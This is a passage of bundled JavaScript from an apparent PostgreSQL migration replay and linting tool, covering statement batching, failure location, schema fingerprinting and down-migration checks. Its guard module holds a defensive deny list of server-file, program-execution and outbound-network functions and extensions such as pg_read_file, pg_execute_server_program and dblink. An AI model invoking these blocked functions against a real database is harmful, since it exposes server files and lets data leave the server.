  const nested = language === "sql" ? [body] : language === "plpgsql" ? plpgsqlStatements(text2) : [];
  for (const sql of nested) {
    const found = nestedRefusal(sql, depth + 1);
    if (found) return { reason: `its body runs a statement that would be refused: ${found.reason}` };
  }
  return void 0;
}
function nestedRefusal(sql, depth) {
  if (depth > MAX_DEPTH) return { reason: "function bodies are nested too deeply to be read" };
  const parsed = parseSql(sql);
  if (!parsed.ok) return void 0;
  const bytes = Buffer.from(sql, "utf8");
  for (const statement of parsed.statements) {
    const found = refusalOf(statement.type, statement.node, bytes.toString("utf8", statement.range.start, statement.range.end), depth);
    if (found) return found;
  }
  return void 0;
}
function plpgsqlStatements(text2) {
  let tree;
  try {
    tree = parsePlPgSQLSync(text2);
  } catch {
    return [];
  }
  const statements = [];
  walk(tree, (key, value) => {
    if (key !== "PLpgSQL_expr") return;
    const expr = value;
    if (expr.query) statements.push(expr.parseMode === 0 ? expr.query : `SELECT ${expr.query}`);
  });
  return statements;
}
function defElems(list) {
  return (list ?? []).map((item) => item.DefElem).filter((item) => item !== void 0);
}
var MAX_DEPTH, DATABASE_STATEMENTS, TABLESPACE_STATEMENTS, FOREIGN_STATEMENTS, OUTREACHING_EXTENSIONS, SERVER_WIDE_ROLE_OPTIONS, SERVER_WIDE_ROLES, OUTREACHING_FUNCTIONS, SIGNALS;
var init_guard = __esm({
  "src/replay/guard.ts"() {
    "use strict";
    init_parse();
    init_statements();
    MAX_DEPTH = 8;
    DATABASE_STATEMENTS = /* @__PURE__ */ new Set(["CreatedbStmt", "DropdbStmt", "AlterDatabaseStmt", "AlterDatabaseSetStmt", "AlterDatabaseRefreshCollStmt"]);
    TABLESPACE_STATEMENTS = /* @__PURE__ */ new Set(["CreateTableSpaceStmt", "DropTableSpaceStmt", "AlterTableSpaceOptionsStmt"]);
    FOREIGN_STATEMENTS = /* @__PURE__ */ new Set([
      "CreateFdwStmt",
      "AlterFdwStmt",
      "CreateForeignServerStmt",
      "AlterForeignServerStmt",
      "CreateUserMappingStmt",
      "AlterUserMappingStmt",
      "ImportForeignSchemaStmt",
      "CreateSubscriptionStmt",
      "AlterSubscriptionStmt"
    ]);
    OUTREACHING_EXTENSIONS = /* @__PURE__ */ new Set(["adminpack", "aws_lambda", "aws_s3", "dblink", "http", "pg_cron", "pg_net", "pg_walinspect"]);
    SERVER_WIDE_ROLE_OPTIONS = /* @__PURE__ */ new Set(["superuser", "replication", "bypassrls"]);
    SERVER_WIDE_ROLES = /* @__PURE__ */ new Set(["pg_execute_server_program", "pg_read_server_files", "pg_write_server_files", "pg_signal_backend", "pg_create_subscription"]);
    OUTREACHING_FUNCTIONS = new Map([
      ...["pg_read_file", "pg_read_binary_file", "pg_stat_file", "lo_import", "lo_export", "pg_file_write", "pg_file_rename", "pg_file_unlink", "pg_file_sync"].map(
        (name) => [name, "reads or writes the database server's files"]
      ),
      ...["pg_ls_dir", "pg_ls_logdir", "pg_ls_waldir", "pg_ls_tmpdir", "pg_ls_archive_statusdir", "pg_ls_logicalsnapdir", "pg_ls_logicalmapdir", "pg_ls_replslotdir", "pg_logdir_ls"].map(
        (name) => [name, "lists the database server's directories"]
      ),
      ...["pg_terminate_backend", "pg_cancel_backend"].map((name) => [name, "acts on other sessions of the server"]),
      ...[
        "pg_reload_conf",
        "pg_rotate_logfile",
        "pg_promote",
        "pg_switch_wal",
        "pg_create_restore_point",
        "pg_backup_start",
        "pg_backup_stop",
        "pg_start_backup",
        "pg_stop_backup",
        "pg_create_physical_replication_slot",
        "pg_create_logical_replication_slot",
        "pg_copy_physical_replication_slot",
        "pg_copy_logical_replication_slot",
        "pg_drop_replication_slot",
        "pg_replication_origin_create",
        "pg_replication_origin_drop"
      ].map((name) => [name, "acts on the whole database server"])
    ]);
    SIGNALS = /* @__PURE__ */ new Set(["pg_terminate_backend", "pg_cancel_backend"]);
  }
});

// src/replay/script.ts
var Script;
var init_script = __esm({
  "src/replay/script.ts"() {
    "use strict";
    Script = class {
      #pieces = [];
      /** `origin`: the byte offset of the text's first byte in the original file; omit it for added text. */
      add(text2, origin) {
        if (text2 !== "") this.#pieces.push({ text: text2, origin });
        return this;
      }
      get sql() {
        return this.#pieces.map((piece) => piece.text).join("");
      }
      /**
       * The byte offset in the original file of Postgres' error `position`: 1-based, counted in characters of the
       * sent string (code points, the server encoding being UTF-8). Undefined when it points into added text.
       */
      originOf(position) {
        let remaining = position - 1;
        if (!Number.isInteger(remaining) || remaining < 0) return void 0;
        let bytes = 0;
        for (const piece of this.#pieces) {
          bytes = 0;
          for (const char of piece.text) {
            if (remaining === 0) return piece.origin === void 0 ? void 0 : piece.origin + bytes;
            remaining--;
            bytes += Buffer.byteLength(char, "utf8");
          }
        }
        const last = this.#pieces.at(-1);
        return remaining === 0 && last?.origin !== void 0 ? last.origin + bytes : void 0;
      }
    };
  }
});

// src/replay/apply.ts
import { scanSync as scanSync4 } from "libpg-query";
async function applyMigration(session, file) {
  if (file.readError) return { file: file.path, message: file.readError.message };
  const prepared = await prepare(file);
  const failures = file.transaction === "none" ? await runStatements(session, prepared, {}) : await runWhole(session, prepared, file.transaction === "transaction");
  await releaseMarker(session, prepared);
  return failures[0];
}
async function applySetup(session, files) {
  const failures = [];
  for (const file of files) {
    const prepared = await prepare({ ...file, skipped: [], transaction: "none" });
    failures.push(
      ...await runStatements(session, prepared, {
        keepGoing: true,
        tolerate: (statement, failure2) => statement.type === "CreateRoleStmt" && failure2.code === DUPLICATE_OBJECT
      })
    );
    await releaseMarker(session, prepared);
  }
  return failures;
}
async function prepare(file) {
  await loadParser();
  const skipped = file.text.charCodeAt(0) === 65279 ? [{ start: 0, end: 3 }, ...file.skipped] : file.skipped;
  const text2 = maskRanges(file.text, skipped);
  const executed = Buffer.from(text2, "utf8");
  const parsed = parseSql(text2, executed.length);
  const statements = parsed.ok ? analyzeStatements(parsed.statements, file.transaction, new LineIndex(text2)) : void 0;
  return {
    path: file.path,
    executed,
    statements,
    parseErrorOffset: parsed.ok ? void 0 : parsed.error.offset,
    opensTransaction: (statements ?? []).some((s) => s.type === "TransactionStmt" && OPENING.has(s.node.kind)),
    markers: { next: 1, held: void 0 },
    refusals: /* @__PURE__ */ new Map()
  };
}
function refusalOf2(file, statement) {
  if (!file.refusals.has(statement.range.start)) file.refusals.set(statement.range.start, unsafeStatement(statement));
  return file.refusals.get(statement.range.start);
}
function refusedIn(file, statements) {
  for (const statement of statements) {
    const refusal = refusalOf2(file, statement);
    if (!refusal) continue;
    const failure2 = {
      file: file.path,
      message: refusalMessage(refusal),
      offset: refusal.offset,
      ...file.statements ? { statement: statement.index } : {},
      refused: true
    };
    return { statement, failure: failure2 };
  }
  return void 0;
}
async function runWhole(session, file, wrap) {
  const statements = file.statements ?? [];
  if (file.statements && statements.length === 0) return [];
  const refused = refusedIn(file, statements);
  if (refused) return [refused.failure];
  const outcome = await runUnit(session, file, { from: 0, to: file.executed.length, statements, wrap });
  if (outcome.ok) {
    if (!wrap) await closeDanglingTransaction(session, file);
    return [];
  }
  return [outcome.failure];
}
async function runStatements(session, file, options) {
  if (file.statements) {
    const failures2 = await runBatches(session, file, file.statements, options);
    if (failures2.length === 0 || options.keepGoing) await closeDanglingTransaction(session, file);
    return failures2;
  }
  const { statements, rest } = statementsBeforeParseError(file);
  const failures = await runBatches(session, file, statements, options);
  if (failures.length > 0 && !options.keepGoing) return failures;
  const outcome = await runUnit(session, file, { from: rest, to: file.executed.length, statements: [], wrap: false });
  if (!outcome.ok) failures.push(outcome.failure);
  return failures;
}
async function runBatches(session, file, statements, options) {
  const failures = [];
  const record = (statement, failure2) => {
    if (statement && options.tolerate?.(statement, failure2)) return true;
    failures.push(failure2);
    return options.keepGoing === true;
  };
  const runAlone = async (batch) => {
    for (const statement of batch) {
      const outcome = await runUnit(session, file, unitOf([statement]));
      if (!outcome.ok && (!record(statement, outcome.failure) || outcome.lost)) return false;
    }
    return true;
  };
  for (const batch of batchesOf(statements, (statement) => refusalOf2(file, statement) !== void 0)) {
    const refused = refusedIn(file, batch);
    if (refused) {
      if (!record(refused.statement, refused.failure)) return failures;
      continue;
    }
    const outcome = await runUnit(session, file, unitOf(batch));
    if (outcome.ok) continue;
    const inBlock = batch[0].transaction !== void 0;
    if (outcome.lost || inBlock || batch.length === 1) {
      if (!record(outcome.failing, outcome.failure) || outcome.lost) return failures;
      continue;
    }
    const failing = outcome.completed;
    if (failing === void 0 || failing >= batch.length) {
      if (!await runAlone(batch)) return failures;
      continue;
    }
    if (!await runAlone(batch.slice(0, failing))) return failures;
    if (!record(batch[failing], outcome.failure)) return failures;
    if (!await runAlone(batch.slice(failing + 1))) return failures;
  }
  return failures;
}
function batchesOf(statements, refused) {
  const batches = [];
  let open;
  const shares = (statement) => shareable(statement) && !refused(statement);
  for (const statement of statements) {
    const last = open?.at(-1);
    const joins = last !== void 0 && (statement.transaction !== void 0 ? statement.transaction === last.transaction : last.transaction === void 0 && shares(statement));
    if (joins) open.push(statement);
    else batches.push(open = [statement]);
    if (statement.transaction === void 0 && !shares(statement)) open = void 0;
  }
  return batches;
}
function shareable(statement) {
  const node = statement.node;
  switch (statement.type) {
    case "IndexStmt":
    case "DropStmt":
      return node.concurrent !== true;
    case "AlterTableStmt":
      return !(node.cmds ?? []).some((item) => {
        const cmd = item.AlterTableCmd;
        return cmd?.subtype === "AT_DetachPartition" && cmd.def?.PartitionCmd?.concurrent === true;
      });
    case "VariableSetStmt":
      return node.is_local !== true && node.kind !== "VAR_SET_MULTI";
    default:
      return SHAREABLE.has(statement.type);
  }
}
function statementsBeforeParseError(file) {
  const errorAt = file.parseErrorOffset ?? 0;
  let end2 = 0;
  try {
    for (const token of scanSync4(file.executed.toString("utf8", 0, errorAt)).tokens) if (token.text === ";") end2 = token.end;
  } catch {
    return { statements: [], rest: 0 };
  }
  const before = maskRanges(file.executed.toString("utf8"), [{ start: end2, end: file.executed.length }]);
  const parsed = parseSql(before, file.executed.length);
  if (!parsed.ok) return { statements: [], rest: 0 };
  return { statements: analyzeStatements(parsed.statements, "none", new LineIndex(before)), rest: end2 };
}
async function closeDanglingTransaction(session, file) {
  if (!file.opensTransaction) return;
  try {
    await session.exec("ROLLBACK");
  } catch (error) {
    throw infrastructureFailure(file.path, error);
  }
}
function unitOf(statements) {
  const wrap = statements.length > 1 && statements[0].transaction === void 0;
  return { from: statements[0].range.start, to: statements.at(-1).range.end, statements, wrap };
}
async function releaseMarker(session, file) {
  const held = file.markers.held;
  if (held === void 0) return;
  file.markers.held = void 0;
  try {
    await session.exec(`SELECT ${unlockMarker(held)}`);
  } catch (error) {
    throw infrastructureFailure(file.path, error);
  }
}
async function runUnit(session, file, unit2) {
  const state = file.markers;
  const count2 = unit2.statements.length;
  const markers = count2 > 1;
  const first = state.next;
  if (markers) state.next += count2;
  const script = new Script();
  if (unit2.wrap) script.add("BEGIN;\n");
  let cursor = unit2.from;
  if (markers) {
    unit2.statements.forEach((statement, i) => {
      script.add(file.executed.toString("utf8", cursor, statement.range.end), cursor);
      cursor = statement.range.end;
      script.add(lockMarker(first + i, i === 0 ? state.held : first + i - 1));
    });
  }
  script.add(file.executed.toString("utf8", cursor, unit2.to), cursor);
  if (unit2.wrap) script.add(`
;COMMIT;${markers ? `SELECT ${unlockMarker(first + count2 - 1)}` : ""}`);
  try {
    await session.exec(script.sql);
    if (markers) state.held = unit2.wrap ? void 0 : first + count2 - 1;
    return { ok: true };
  } catch (error) {
    if (!isSqlError(error)) throw infrastructureFailure(file.path, error);
    let lost = false;
    let completed = count2 === 1 ? 0 : void 0;
    const held = state.held;
    state.held = void 0;
    try {
      await session.exec("ROLLBACK");
      if (markers || held !== void 0) {
        const keys = (await session.query(TAKE_MARKER)).map((row) => row.key);
        const mine = keys.filter((key) => key >= first && key < first + count2);
        if (markers) completed = mine.length > 0 ? Math.max(...mine) - first + 1 : 0;
      }
    } catch (cleanup) {
      if (!isSqlError(cleanup)) lost = true;
    }
    return { ok: false, ...locate(file, unit2, script, error, completed), completed, lost };
  }
}
function locate(file, unit2, script, error, completed) {
  const position = error.position === void 0 ? void 0 : script.originOf(Number(error.position));
  const failing = position !== void 0 ? unit2.statements.findLast((s) => s.range.start <= position) : completed !== void 0 ? unit2.statements[completed] : void 0;
  const offset = position ?? failing?.range.start;
  return {
    failing,
    failure: {
      file: file.path,
      message: error.message,
      code: error.code,
      ...error.detail ? { detail: error.detail } : {},
      ...error.hint ? { hint: error.hint } : {},
      ...offset !== void 0 ? { offset } : {},
      ...failing && file.statements ? { statement: failing.index } : {}
    }
  };
}
function isSqlError(error) {
  if (!(error instanceof Error) || error instanceof ProviderError) return false;
  const code = error.code;
  return typeof code === "string" && /^[0-9A-Z]{5}$/.test(code) && !code.startsWith("08") && !code.startsWith("57P");
}
function infrastructureFailure(path3, error) {
  return new ProviderError(`could not replay ${path3}: ${describe2(error)}`, { cause: error });
}
var DUPLICATE_OBJECT, OPENING, SHAREABLE, unlockMarker, lockMarker, TAKE_MARKER;
var init_apply = __esm({
  "src/replay/apply.ts"() {
    "use strict";
    init_parse();
    init_source();
    init_statements();
    init_provider();
    init_guard();
    init_script();
    DUPLICATE_OBJECT = "42710";
    OPENING = /* @__PURE__ */ new Set(["TRANS_STMT_BEGIN", "TRANS_STMT_START"]);
    SHAREABLE = /* @__PURE__ */ new Set([
      "AlterDefaultPrivilegesStmt",
      "AlterDomainStmt",
      "AlterFunctionStmt",
      "AlterObjectSchemaStmt",
      "AlterOwnerStmt",
      "AlterPolicyStmt",
      "AlterRoleStmt",
      "AlterSeqStmt",
      "CommentStmt",
      "CompositeTypeStmt",
      "CreateCastStmt",
      "CreateDomainStmt",
      "CreateEnumStmt",
      "CreateExtensionStmt",
      "CreateFunctionStmt",
      "CreatePolicyStmt",
      "CreateRangeStmt",
      "CreateRoleStmt",
      "CreateSchemaStmt",
      "CreateSeqStmt",
      "CreateStatsStmt",
      "CreateStmt",
      "CreateTableAsStmt",
      "CreateTrigStmt",
      "DefineStmt",
      "DeleteStmt",
      "GrantRoleStmt",
      "GrantStmt",
      "InsertStmt",
      "RenameStmt",
      "RuleStmt",
      "UpdateStmt",
      "ViewStmt"
    ]);
    unlockMarker = (key) => `pg_catalog.pg_advisory_unlock(pg_catalog.pg_backend_pid(), ${key})`;
    lockMarker = (key, previous) => `;SELECT ${previous === void 0 ? "" : `${unlockMarker(previous)}, `}pg_catalog.pg_advisory_lock(pg_catalog.pg_backend_pid(), ${key})`;
    TAKE_MARKER = `SELECT objid::int8 AS key, ${unlockMarker("objid::int4")} FROM pg_catalog.pg_locks WHERE locktype = 'advisory' AND objsubid = 2 AND pid = pg_catalog.pg_backend_pid() AND classid = pg_catalog.pg_backend_pid()::oid`;
  }
});

// src/replay/fingerprint.ts
async function schemaFingerprint(session) {
  const rows2 = await session.query(FINGERPRINT_SQL);
  const objects = /* @__PURE__ */ new Map();
  for (const row of rows2) {
    const object = { kind: row.kind, name: row.name, definition: row.definition ?? "" };
    if (row.parent !== null) object.parent = row.parent;
    objects.set(`${row.kind} ${row.name}`, object);
  }
  return objects;
}
function compareFingerprints(before, after) {
  const extra = [...after.values()].filter((o) => !before.has(`${o.kind} ${o.name}`));
  const missing = [...before.values()].filter((o) => !after.has(`${o.kind} ${o.name}`));
  const covered = new Set([...extra, ...missing].filter((o) => o.parent === void 0).map((o) => o.name));
  const lines = [];
  for (const object of extra) if (!covered.has(object.parent)) lines.push(`${object.kind} ${object.name} still exists`);
  for (const object of missing) if (!covered.has(object.parent)) lines.push(`${object.kind} ${object.name} missing`);
  for (const [key, object] of after) {
    const was = before.get(key);
    if (!was || was.definition === object.definition) continue;
    const short = (text2) => text2.length <= SHOWN_DEFINITION && !text2.includes("\n");
    lines.push(
      short(was.definition) && short(object.definition) ? `${object.kind} ${object.name} is ${object.definition}, was ${was.definition}` : `${object.kind} ${object.name} differs from before the migration`
    );
  }
  return lines.sort();
}
var BOOKKEEPING_TABLES, NOT_IN_EXTENSION, FINGERPRINT_SQL, SHOWN_DEFINITION;
var init_fingerprint = __esm({
  "src/replay/fingerprint.ts"() {
    "use strict";
    BOOKKEEPING_TABLES = [
      "goose_db_version",
      "schema_migrations",
      "flyway_schema_history",
      "_prisma_migrations",
      "__drizzle_migrations",
      "__diesel_schema_migrations"
    ];
    NOT_IN_EXTENSION = (catalog, oid) => `NOT EXISTS (SELECT FROM pg_catalog.pg_depend e WHERE e.classid = 'pg_catalog.${catalog}'::regclass AND e.objid = ${oid} AND e.deptype = 'e')`;
    FINGERPRINT_SQL = `
WITH schemas AS (
  SELECT n.oid, n.nspname FROM pg_catalog.pg_namespace n
  WHERE n.nspname NOT IN ('pg_catalog', 'information_schema', 'pg_toast', 'supabase_migrations')
    AND n.nspname NOT LIKE 'pg\\_temp\\_%' AND n.nspname NOT LIKE 'pg\\_toast\\_temp\\_%'
    AND ${NOT_IN_EXTENSION("pg_namespace", "n.oid")}
),
bookkeeping AS (
  SELECT c.oid FROM pg_catalog.pg_class c
  WHERE c.relkind IN ('r', 'p') AND c.relname IN (${BOOKKEEPING_TABLES.map((t) => `'${t}'`).join(", ")})
),
rels AS (
  SELECT c.oid, c.relkind, c.relpersistence, c.relrowsecurity, c.relispartition, c.relpartbound,
         pg_catalog.format('%I.%I', s.nspname, c.relname) AS name
  FROM pg_catalog.pg_class c JOIN schemas s ON s.oid = c.relnamespace
  WHERE c.relkind IN ('r', 'p', 'f', 'v', 'm', 'S')
    AND c.oid NOT IN (SELECT oid FROM bookkeeping)
    AND ${NOT_IN_EXTENSION("pg_class", "c.oid")}
    -- sequences of the bookkeeping tables' serial or identity columns
    AND NOT EXISTS (SELECT FROM pg_catalog.pg_depend d WHERE d.classid = 'pg_catalog.pg_class'::regclass AND d.objid = c.oid
                    AND d.deptype IN ('a', 'i') AND d.refobjid IN (SELECT oid FROM bookkeeping))
),
types AS (
  SELECT t.oid, t.typtype, t.typrelid, t.typbasetype, t.typtypmod, t.typnotnull, t.typdefault,
         pg_catalog.format('%I.%I', s.nspname, t.typname) AS name
  FROM pg_catalog.pg_type t JOIN schemas s ON s.oid = t.typnamespace
  WHERE t.typtype IN ('e', 'd', 'r', 'c')
    AND (t.typtype <> 'c' OR (SELECT c.relkind FROM pg_catalog.pg_class c WHERE c.oid = t.typrelid) = 'c')
    AND ${NOT_IN_EXTENSION("pg_type", "t.oid")}
)
SELECT 'schema' AS kind, pg_catalog.quote_ident(s.nspname) AS name, NULL::text AS parent, '' AS definition FROM schemas s
UNION ALL
SELECT CASE r.relkind WHEN 'v' THEN 'view' WHEN 'm' THEN 'materialized view' WHEN 'S' THEN 'sequence' ELSE 'table' END,
  r.name, NULL,
  CASE
    WHEN r.relkind IN ('v', 'm') THEN pg_catalog.pg_get_viewdef(r.oid)
    WHEN r.relkind = 'S' THEN (
      SELECT pg_catalog.format('%s start %s increment %s min %s max %s cache %s%s', pg_catalog.format_type(q.seqtypid, NULL),
        q.seqstart, q.seqincrement, q.seqmin, q.seqmax, q.seqcache, CASE WHEN q.seqcycle THEN ' cycle' ELSE '' END)
      FROM pg_catalog.pg_sequence q WHERE q.seqrelid = r.oid)
    ELSE pg_catalog.concat_ws(' ',
      CASE r.relkind WHEN 'p' THEN 'partitioned table' WHEN 'f' THEN 'foreign table' ELSE 'table' END,
      CASE WHEN r.relpersistence = 'u' THEN 'unlogged' END,
      CASE WHEN r.relkind = 'p' THEN 'partitioned by ' || pg_catalog.pg_get_partkeydef(r.oid) END,
      CASE WHEN r.relispartition THEN 'partition of ' || (
        SELECT pg_catalog.format('%I.%I', pn.nspname, pc.relname) FROM pg_catalog.pg_inherits i
        JOIN pg_catalog.pg_class pc ON pc.oid = i.inhparent JOIN pg_catalog.pg_namespace pn ON pn.oid = pc.relnamespace
        WHERE i.inhrelid = r.oid) || ' ' || pg_catalog.pg_get_expr(r.relpartbound, r.oid) END,
      CASE WHEN r.relrowsecurity THEN 'with row level security' END)
  END
FROM rels r
UNION ALL
SELECT 'column', r.name || '.' || pg_catalog.quote_ident(a.attname), r.name,
  pg_catalog.concat_ws(' ',
    pg_catalog.format_type(a.atttypid, a.atttypmod),
    CASE WHEN a.attcollation <> t.typcollation THEN 'collate ' || (SELECT pg_catalog.quote_ident(co.collname) FROM pg_catalog.pg_collation co WHERE co.oid = a.attcollation) END,
    CASE WHEN a.attnotnull THEN 'not null' END,
    CASE a.attidentity WHEN 'a' THEN 'generated always as identity' WHEN 'd' THEN 'generated by default as identity' END,
    CASE WHEN a.attgenerated <> '' THEN 'generated always as (' || pg_catalog.pg_get_expr(ad.adbin, ad.adrelid) || ')'
         WHEN ad.adbin IS NOT NULL THEN 'default ' || pg_catalog.pg_get_expr(ad.adbin, ad.adrelid) END)
FROM rels r
JOIN pg_catalog.pg_attribute a ON a.attrelid = r.oid AND a.attnum > 0 AND NOT a.attisdropped
JOIN pg_catalog.pg_type t ON t.oid = a.atttypid
LEFT JOIN pg_catalog.pg_attrdef ad ON ad.adrelid = a.attrelid AND ad.adnum = a.attnum
WHERE r.relkind IN ('r', 'p', 'f')
UNION ALL
SELECT 'constraint', owner.name || '.' || pg_catalog.quote_ident(k.conname), owner.name,
  pg_catalog.pg_get_constraintdef(k.oid) || CASE WHEN k.convalidated THEN '' ELSE ' (not validated)' END
FROM pg_catalog.pg_constraint k
JOIN (SELECT oid, name FROM rels UNION ALL SELECT oid, name FROM types) owner ON owner.oid IN (k.conrelid, k.contypid)
-- PostgreSQL 18 records NOT NULL as constraints; the column already says it, unless it is not validated.
WHERE NOT (k.contype = 'n' AND k.convalidated)
UNION ALL
SELECT 'index', pg_catalog.format('%I.%I', s.nspname, ic.relname), r.name,
  pg_catalog.pg_get_indexdef(x.indexrelid) || CASE WHEN x.indisvalid THEN '' ELSE ' (invalid)' END
FROM pg_catalog.pg_index x
JOIN rels r ON r.oid = x.indrelid
JOIN pg_catalog.pg_class ic ON ic.oid = x.indexrelid
JOIN pg_catalog.pg_namespace s ON s.oid = ic.relnamespace
-- Indexes behind primary keys, unique and exclusion constraints are listed as the constraint.
WHERE NOT EXISTS (SELECT FROM pg_catalog.pg_constraint k WHERE k.conindid = x.indexrelid AND k.conrelid = x.indrelid AND k.contype IN ('p', 'u', 'x'))
UNION ALL
SELECT 'trigger', r.name || '.' || pg_catalog.quote_ident(g.tgname), r.name, pg_catalog.pg_get_triggerdef(g.oid)
FROM pg_catalog.pg_trigger g JOIN rels r ON r.oid = g.tgrelid
WHERE NOT g.tgisinternal
UNION ALL
SELECT 'policy', r.name || '.' || pg_catalog.quote_ident(p.polname), r.name,
  pg_catalog.concat_ws(' ', CASE WHEN p.polpermissive THEN 'permissive' ELSE 'restrictive' END, 'for', p.polcmd::text,
    'to', (SELECT pg_catalog.string_agg(CASE WHEN o = 0 THEN 'public' ELSE pg_catalog.quote_ident(pg_catalog.pg_get_userbyid(o)) END, ', ' ORDER BY 1) FROM pg_catalog.unnest(p.polroles) o),
    'using (' || pg_catalog.pg_get_expr(p.polqual, p.polrelid) || ')',
    'with check (' || pg_catalog.pg_get_expr(p.polwithcheck, p.polrelid) || ')')
FROM pg_catalog.pg_policy p JOIN rels r ON r.oid = p.polrelid
UNION ALL
SELECT CASE f.prokind WHEN 'p' THEN 'procedure' WHEN 'a' THEN 'aggregate' WHEN 'w' THEN 'window function' ELSE 'function' END,
  pg_catalog.format('%I.%I(%s)', s.nspname, f.proname, pg_catalog.pg_get_function_identity_arguments(f.oid)), NULL,
  CASE WHEN f.prokind IN ('f', 'p') THEN pg_catalog.pg_get_functiondef(f.oid)
       ELSE 'returns ' || pg_catalog.pg_get_function_result(f.oid) END
FROM pg_catalog.pg_proc f JOIN schemas s ON s.oid = f.pronamespace
WHERE ${NOT_IN_EXTENSION("pg_proc", "f.oid")}
  -- the constructors a range type comes with
  AND NOT EXISTS (SELECT FROM pg_catalog.pg_depend d WHERE d.classid = 'pg_catalog.pg_proc'::regclass AND d.objid = f.oid AND d.deptype = 'i')
UNION ALL
SELECT 'type', t.name, NULL,
  CASE t.typtype
    WHEN 'e' THEN 'enum (' || (SELECT pg_catalog.string_agg(pg_catalog.quote_literal(e.enumlabel), ', ' ORDER BY e.enumsortorder)
                                FROM pg_catalog.pg_enum e WHERE e.enumtypid = t.oid) || ')'
    WHEN 'd' THEN pg_catalog.concat_ws(' ', 'domain over', pg_catalog.format_type(t.typbasetype, t.typtypmod),
                                      CASE WHEN t.typnotnull THEN 'not null' END, 'default ' || t.typdefault)
    WHEN 'r' THEN 'range of ' || (SELECT pg_catalog.format_type(g.rngsubtype, NULL) FROM pg_catalog.pg_range g WHERE g.rngtypid = t.oid)
    ELSE 'composite (' || (SELECT pg_catalog.string_agg(pg_catalog.quote_ident(a.attname) || ' ' || pg_catalog.format_type(a.atttypid, a.atttypmod), ', ' ORDER BY a.attnum)
                           FROM pg_catalog.pg_attribute a WHERE a.attrelid = t.typrelid AND a.attnum > 0 AND NOT a.attisdropped) || ')'
  END
FROM types t
UNION ALL
SELECT 'extension', pg_catalog.quote_ident(x.extname), NULL, x.extversion || ' in schema ' || pg_catalog.quote_ident(n.nspname)
FROM pg_catalog.pg_extension x JOIN pg_catalog.pg_namespace n ON n.oid = x.extnamespace
`;
    SHOWN_DEFINITION = 120;
  }
});

// src/replay/down.ts
async function checkDownMigration(session, file, before) {
  if (!file.down) return { ok: true };
  const down = await applyMigration(session, { ...file.down, transaction: file.transaction });
  if (down) return { ok: false, failure: down };
  const difference = compareFingerprints(before, await schemaFingerprint(session));
  const again = await applyMigration(session, file);
  const failure2 = again && { ...again, message: `applying the migration again after its down part failed: ${again.message}` };
  if (!failure2 && difference.length === 0) return { ok: true };
  return { ok: false, ...failure2 ? { failure: failure2 } : {}, ...difference.length > 0 ? { difference } : {} };
}
var init_down = __esm({
  "src/replay/down.ts"() {
    "use strict";
    init_apply();
    init_fingerprint();
  }
});

// src/replay/index.ts
var init_replay = __esm({
  "src/replay/index.ts"() {
    "use strict";
    init_apply();
    init_down();
    init_fingerprint();
  }
});

// src/trace/state.ts
async function userRelations(session) {
  const rows2 = await session.query(USER_RELATIONS);
  return new Set(rows2.map((row) => row.oid));
}
async function readLocks(session, pid) {
  const [row] = await session.query(`SELECT (${locksOf("$1")}) AS locks`, [pid]);
  return (row?.locks ?? []).map(([oid, mode, granted]) => ({ oid, mode, granted }));
}
async function readState(session, tracked, base) {
  const [row] = await session.query(STATE, [oidArray(tracked), base === void 0]);
  if (!row) throw new Error("the catalog query returned no row");
  const scope = new Set(row.scope);
  const keep = (map, outside) => [...map ?? []].filter(([key, value]) => outside(key, value));
  return {
    locks: row.locks.map(([oid, mode, granted]) => ({ oid, mode, granted })),
    relations: new Map([
      ...keep(base?.relations, (oid, relation) => !scope.has(oid) && !scope.has(relation.table ?? oid)),
      ...row.relations.map(([oid, name, kind, filenode, table, definition]) => [
        oid,
        { oid, name, kind, filenode, table, definition }
      ])
    ]),
    constraints: new Map([
      ...keep(base?.constraints, (_, constraint) => !scope.has(constraint.table)),
      ...row.constraints.map(([oid, table, name, type, valid, columns]) => [
        oid,
        { oid, table, name, type, valid, columns: columns ?? [] }
      ])
    ]),
    columns: new Map([
      ...keep(base?.columns, (table) => !scope.has(table)),
      ...row.columns.map(([table, maxAttnum, notNull]) => [
        table,
        { maxAttnum, notNull: new Map(notNull) }
      ])
    ]),
    scans: new Map(row.scans),
    settings: { lockTimeout: row.lock_timeout, statementTimeout: row.statement_timeout }
  };
}
async function readBefore(session, tracked) {
  const [row] = await session.query(
    BEFORE,
    [oidArray(tracked)]
  );
  if (!row) throw new Error("the settings query returned no row");
  return { lockTimeout: row.lock_timeout, statementTimeout: row.statement_timeout, scans: new Map(row.scans) };
}
async function showSettings(session) {
  const [lock] = await session.query("SHOW lock_timeout");
  const [statement] = await session.query("SHOW statement_timeout");
  return { lockTimeout: lock?.lock_timeout ?? "", statementTimeout: statement?.statement_timeout ?? "" };
}
function oidArray(oids) {
  return `{${[...oids].join(",")}}`;
}
function adoptRebuiltIndexes(tracked, before, after) {
  const byName = /* @__PURE__ */ new Map();
  for (const relation of after.relations.values()) {
    if (!tracked.has(relation.oid) && isIndex(relation)) byName.set(relation.name, relation);
  }
  const adopted = /* @__PURE__ */ new Map();
  for (const old of before.relations.values()) {
    if (!tracked.has(old.oid) || !isIndex(old) || after.relations.has(old.oid)) continue;
    const successor = byName.get(old.name);
    if (successor && successor.table === old.table && successor.definition === old.definition) adopted.set(old.oid, successor);
  }
  return adopted;
}
function isIndex(relation) {
  return relation.kind === "i" || relation.kind === "I";
}
function rewrites(tracked, before, after, adopted) {
  const rewritten = [];
  for (const old of before.relations.values()) {
    if (!tracked.has(old.oid) || old.kind === "S" || old.filenode === null) continue;
    const now = after.relations.get(old.oid) ?? adopted.get(old.oid);
    if (now && now.filenode !== null && now.filenode !== old.filenode) rewritten.push(old);
  }
  return rewritten.sort((a, b) => a.name < b.name ? -1 : 1);
}
function newLocks(held, after, names3) {
  const key = (lock) => `${lock.oid} ${lock.mode}`;
  const previous = new Set(held.map(key));
  const seen = /* @__PURE__ */ new Set();
  const locks = [];
  for (const lock of after) {
    const relation = names3(lock.oid);
    if (!relation || previous.has(key(lock)) || seen.has(`${relation} ${lock.mode}`)) continue;
    seen.add(`${relation} ${lock.mode}`);
    locks.push({ relation, mode: lock.mode });
  }
  return sortLocks(locks);
}
function sortLocks(locks) {
  const rank = (mode) => LOCK_MODES.indexOf(mode);
  return locks.sort((a, b) => a.relation === b.relation ? rank(a.mode) - rank(b.mode) : a.relation < b.relation ? -1 : 1);
}
async function validations(before, after, rewritten, evidence2) {
  const found = [];
  const name = (table) => before.relations.get(table)?.name;
  const notNull = [];
  for (const constraint of after.constraints.values()) {
    const old = before.constraints.get(constraint.oid);
